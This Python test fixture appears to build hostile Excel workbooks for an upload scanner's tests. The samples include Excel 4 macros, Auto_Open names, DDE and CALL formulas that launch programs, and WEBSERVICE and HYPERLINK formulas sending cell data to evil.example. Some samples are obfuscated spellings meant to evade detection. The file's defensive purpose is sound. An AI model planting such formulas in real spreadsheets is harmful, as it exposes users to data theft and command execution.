"""Workbooks that run, fetch or spy: macros of Excel 4, links, formulas that ask other machines."""

from collections.abc import Mapping

from tests.uploads.strangers import OFFICE, Part, office, package


def sheet(
    cells: str = "",
    *links: tuple[str, str, str],
    more: str = "",
    parts: Mapping[str, Part] | None = None,
) -> bytes:
    """Return an Excel document with these cells in its only sheet, and this in its book."""
    space = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    names = f'xmlns="{space}" xmlns:r="{OFFICE}"'
    body = f"<worksheet {names}><sheetData><row>{cells}</row></sheetData></worksheet>"
    book = f'<workbook {names}><sheets><sheet name="A" sheetId="1" r:id="rId1"/></sheets>{more}</workbook>'
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
    return package(
        office(
            book.encode(),
            *links,
            name="xl/workbook.xml",
            kind="spreadsheetml.sheet.main",
            parts={
                "xl/worksheets/sheet1.xml": Part(body.encode(), kind, "worksheet"),
                **(parts or {}),
            },
        )
    )


def formula(said: str) -> bytes:
    return sheet(f"<c><f>{said}</f><v>7</v></c>")


XLM = "application/vnd.ms-excel.macrosheet+xml"

HOSTILE = {
    "macros of Excel 4": sheet(parts={"xl/macrosheets/a.xml": Part(b"<a/>", XLM,
        "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet")}),
    "macros of Excel 4, called a sheet": sheet(parts={"xl/worksheets/b.xml": Part(
        b"<a/>", XLM.replace("macros", "macro&#115;"), "worksheet")}),
    "a name that is a macro": sheet(more='<definedNames><definedName name="Auto_Open" xlm="1">A!A1</definedName></definedNames>'),
    "a name that is a program's function": sheet(more='<definedNames><definedName name="a" vbProcedure="true">0</definedName></definedNames>'),
    "a name that fetches": sheet(more="<definedNames><definedName name='a'>WEBSERVICE(A!A1)</definedName></definedNames>"),
    "a book that is linked": sheet(parts={"xl/externalLinks/a.xml": Part(b"<a/>",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml", "externalLink")}),
    "a connection to the web": sheet(parts={"xl/connections.xml": Part(
        b'<connections><connection refreshOnLoad="1"/></connections>',
        "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml", "connections")}),
    "a question to the web": sheet(parts={"xl/queryTables/a.xml": Part(b"<queryTable/>",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.queryTable+xml", "queryTable")}),
    "a mash-up": sheet(parts={"customXml/item1.xml": Part(
        "<DataMashup xmlns='http://schemas.microsoft.com/DataMashup'>UEsD</DataMashup>".encode("utf-16"),
        "application/xml", "customXml")}),
    "a program's data": formula("cmd|'/c calc'!A0"),
    "a program's data, by a function": formula('DDE("cmd";"/c calc";"A")'),
    "the web, by a function": formula('WEBSERVICE("https://evil.example/"&amp;A1)'),
    "the web, with a prefix": formula('_xlfn.WEBSERVICE("https://evil.example/")'),
    "the web, in small letters": formula('webservice ("https://evil.example/")'),
    "the web, spelled with references": formula('WEB&#83;ERVICE("https://evil.example/")'),
    "the web, behind a column": formula('T[["]]+WEBSERVICE("x")+T[["]]'),
    "the web, behind a sheet": formula("'x\"'!A1+WEBSERVICE(\"https://evil.example\")"),
    "a picture of the web": formula('_xlfn.IMAGE("https://evil.example/x.png")'),
    "a server of data": formula('RTD("x",,"y")'),
    "a function of a program": formula('CALL("kernel32","WinExec","JCJ","calc",0)'),
    "a function of a macro": formula("_xll.Sesuatu(1)"),
    "a link that tells": formula('HYPERLINK("https://evil.example/"&amp;A1,"x")'),
    "a link into the machine by a function": formula('HYPERLINK("file:///c:/x","x")'),
    "another book": formula("[1]Sheet1!A1"),
    "another book on a share": formula("'\\\\evil.example\\[x.xlsx]A'!A1"),
}  # fmt: skip
